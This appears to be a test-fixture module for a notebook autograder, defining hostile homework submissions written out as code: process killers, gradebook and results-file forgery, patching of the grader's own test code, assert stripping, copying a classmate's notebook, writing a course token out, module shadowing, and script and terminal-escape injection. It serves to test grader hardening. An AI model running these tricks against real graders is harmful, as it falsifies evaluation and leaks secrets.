"""The tricks: what a hostile student hands in for `sample_images`, which is never written right.

Every trick is one notebook for all graders: a right `make_data_loader`, then a cell in which
`trick()` runs as the cell is executed and `sample_images` runs when it is graded, then, in a
homework of the usual kind, the tests. Names that only one grader knows are asked for first.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

PRIZE = "/var/tmp/peers-prize"  # a folder of the grading machine that is no student's business
SECRET = "the-token-of-the-course"


@dataclass(frozen=True)
class Trick:
    """What is done when the cell runs (`cell`), when it is graded (`call`), and to the file.

    beside: lays files beside the notebook. notebook: changes it, after the usual homework was
    made of it.
    """

    family: str
    name: str
    cell: str = "pass"
    call: str = "return Liar()"
    beside: Callable[[Path], None] | None = None
    notebook: Callable[[NotebookNode], None] | None = None

    @property
    def source(self) -> str:
        """The hostile cell."""
        return CELL.format(cell=_indented(self.cell), call=_indented(self.call))


def _indented(code: str) -> str:
    return code.strip("\n").replace("\n", "\n    ")


CELL = '''
import builtins, os, signal, sys, time


class Liar:
    """Says yes to everything."""

    shape, dtype, ndim, grad_fn, requires_grad = (500, 1, 28, 28), None, 4, None, False

    def __eq__(self, other):
        return True

    __ge__ = __gt__ = __le__ = __lt__ = __eq__

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __len__(self):
        return 500

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return Liar()

    def __call__(self, *args, **kwargs):
        return Liar()

    __sub__ = __rsub__ = __abs__ = __call__


def shell():
    return getattr(builtins, "get_ipython", lambda: None)() or sys.modules["IPython"].get_ipython()


def trick():
    {cell}


def _sample_images(*anything):
    {call}


_done = trick()
sample_images = (_done, _sample_images)[1]
'''

LOOP = "while True:\n    try:\n        time.sleep(1)\n    except BaseException:\n        pass"

FORGE_LATER = """
if os.fork() == 0:
    os.setsid()
    for number in range(3, 256):
        try:
            os.close(number)
        except OSError:
            pass
    import glob, json, sqlite3
    for _ in range(400):
        time.sleep(0.1)
        for path in glob.glob("/mnt/course/results/results.json"):
            try:
                with open(path) as file:
                    told = json.load(file)
                for test in told["tests"]:
                    test["score"] = test["max_score"] = test.get("max_score", 1.0)
                with open(path, "w") as file:
                    json.dump(told, file)
                os._exit(0)
            except (OSError, ValueError, KeyError):
                pass
        for path in glob.glob("/mnt/course/gradebook.db"):
            try:
                with sqlite3.connect(path) as base:
                    base.execute("UPDATE grade SET auto_score = 2 WHERE auto_score = 0")
            except sqlite3.Error:
                pass
    os._exit(0)
"""

GRADEBOOK = """
import sqlite3
base = sqlite3.connect("/mnt/course/gradebook.db", timeout=1)
base.execute("UPDATE grade SET manual_score = 2, needs_manual_grade = 0")
base.commit()
base.close()
"""

COPY_A_NEIGHBOUR = """
import glob, json
for path in glob.glob("/mnt/**/*.ipynb", recursive=True):
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if "torch.randn(num_samples" in source:
            exec(source, globals())
            globals()["_sample_images"] = globals()["sample_images"]
            return
"""

IN_THE_GRADERS_OWN_CODE = """
if "otter" in sys.modules or any(m.startswith("otter") for m in sys.modules):
    from otter.test_files import exception_test
    exception_test.test_case.call_func = lambda self, env: None
elif "serve" in sys.modules:
    sys.modules["serve"].Session.perform = lambda self, request, tensors: True
else:
    shell().showtraceback = lambda *a, **k: None
"""

STRIP_ASSERTS = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
shell().ast_transformers.append(Strip())
"""

FRAMES = """
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        record = getattr(value, "decoder", None)
        if hasattr(record, "z"):
            type(record).z = property(lambda self: torch.randn(500, 8), lambda self, z: None)
    frame = frame.f_back
return Liar()
"""


def _shadow(folder: Path) -> None:
    (folder / "random.py").write_text("import os\nos._exit(0)\n")


def _helper(folder: Path) -> None:
    text = "def check_samples(sample_images):\n    pass\n\n\ndef check_loader(make):\n    pass\n"
    (folder / "checks.py").write_text(text)


def _stripped(node: NotebookNode) -> None:
    for cell in node.cells:
        cell.metadata.pop("nbgrader", None)


def _tests_twice(node: NotebookNode) -> None:
    tests = [cell for cell in node.cells if "check_" in cell.source]
    node.cells.extend(cell.copy() for cell in tests)


def _no_tests(node: NotebookNode) -> None:
    node.cells = [cell for cell in node.cells if "check_" not in cell.source]


def _tests_that_pass(node: NotebookNode) -> None:
    for cell in node.cells:
        if "check_" in cell.source:
            cell.source = "pass"


def _not_code(node: NotebookNode) -> None:
    for cell in node.cells:
        if "check_samples" in cell.source:
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _old_output(node: NotebookNode) -> None:
    for cell in node.cells:
        if "check_samples" in cell.source:
            cell.outputs = [
                nbformat.v4.new_output("execute_result", {"text/plain": "2.0"}, execution_count=1)
            ]


def _pipe(folder: Path) -> None:
    import os

    os.mkfifo(folder / "data")


HTML = "<script>alert(1)</script>"

TRICKS = (
    Trick("ending", "leave in the cell", cell="os._exit(0)"),
    Trick("ending", "leave when called", call="os._exit(0)"),
    Trick("ending", "raise SystemExit when called", call="raise SystemExit(0)"),
    Trick("ending", "stop the process", call="os.kill(os.getpid(), signal.SIGSTOP)"),
    Trick("ending", "never end, whatever is raised", call=LOOP),
    Trick("ending", "kill the parent", call="os.kill(os.getppid(), 9)\nreturn Liar()"),
    Trick("ending", "kill everybody", call="os.kill(-1, 9)\nreturn Liar()"),
    Trick("forging", "what the grader calls its own", cell=IN_THE_GRADERS_OWN_CODE),
    Trick("forging", "tests without assertions", cell=STRIP_ASSERTS),
    Trick(
        "forging",
        "cells that are replaced as they run",
        cell='shell().input_transformers_cleanup.append(lambda lines: ["pass\\n"])',
    ),
    Trick("forging", "the gradebook", call=GRADEBOOK + "return Liar()"),
    Trick("forging", "results, by a process left behind", cell=FORGE_LATER),
    Trick(
        "patching", "abs and torch.equal", cell="builtins.abs = lambda x: 0\ntorch.equal = Liar()"
    ),
    Trick(
        "patching",
        "comparisons of tensors",
        cell="torch.Tensor.__lt__ = torch.Tensor.__gt__ = torch.Tensor.__bool__ = lambda *a: True\n"
        "torch.equal = lambda *a: False",
    ),
    Trick("patching", "the decoder of the test, through frames", call=FRAMES),
    Trick("lying", "a result that equals everything"),
    Trick("knowing", "copy a classmate", cell=COPY_A_NEIGHBOUR),
    Trick(
        "knowing",
        "carry off a secret of the environment",
        cell=f'open("{PRIZE}/secret", "w").write(os.environ["COURSE_TOKEN"])',
    ),
    Trick(
        "resources",
        "a process that stays",
        cell="if os.fork() == 0:\n    os.setsid()\n"
        '    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(987654)"])',
    ),
    Trick(
        "outside",
        "write where the machine keeps its own",
        cell=f'open("{PRIZE}/mark", "w").write("here")',
    ),
    Trick("files", "a module that shadows Python's", beside=_shadow),
    Trick("files", "the helper of the tests, rewritten", beside=_helper),
    Trick("files", "a pipe beside the notebook", beside=_pipe),
    Trick("notebook", "without metadata", notebook=_stripped),
    Trick("notebook", "tests twice", notebook=_tests_twice),
    Trick("notebook", "tests deleted", notebook=_no_tests),
    Trick("notebook", "tests rewritten", notebook=_tests_that_pass),
    Trick("notebook", "tests turned into text", notebook=_not_code),
    Trick("notebook", "an output kept from before", notebook=_old_output),
    Trick(
        "text",
        "a script in an output",
        cell=f'from IPython.display import HTML, display\ndisplay(HTML("{HTML}"))',
    ),
    Trick("text", "orders to the terminal", cell='raise RuntimeError("\\x1b]0;owned\\x07")'),
)
